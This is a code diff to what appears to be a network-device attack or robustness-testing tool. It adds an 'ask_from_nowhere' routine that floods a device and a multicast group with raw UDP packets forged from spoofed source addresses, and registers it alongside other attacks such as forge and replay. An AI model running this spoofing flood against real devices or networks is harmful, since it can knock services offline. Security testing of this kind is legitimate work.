@@ -432,6 +432,19 @@ def forge(kind, device_type, victim, count, rate):
     say("done", size)
 
 
+def ask_from_nowhere(device_type, hosts):
+    """Asks in the name of addresses that no host has, by unicast and by the group, so that the answers stay."""
+    (device,) = listen_for(device_type)
+    say("ready")
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ADDRESS))
+        for at in paced(100000, 1500):
+            source = (f"10.77.0.{100 + at % int(hosts)}", random.randint(1024, 65535))
+            to = wire.GROUP if at % 3 == 0 else (device.address, device.port)
+            asked = wire.core(number(16), os.urandom(8))
+            raw.sendto(forged(source, to, wire.probe(device_type) if at % 3 == 0 else asked), to)
+
+
 def recorded(path, *to):
     """The UDP datagrams of a recording of an Ethernet that went to one of the addresses: (source, destination, payload)."""
     with open(path, "rb") as opened:
@@ -519,6 +532,7 @@ ATTACKS = {
     "connect": connect,
     "pester": pester,
     "forge": forge,
+    "ask-from-nowhere": ask_from_nowhere,
     "replay": replay,
     "suffer": suffer,
     "foreign": foreign,
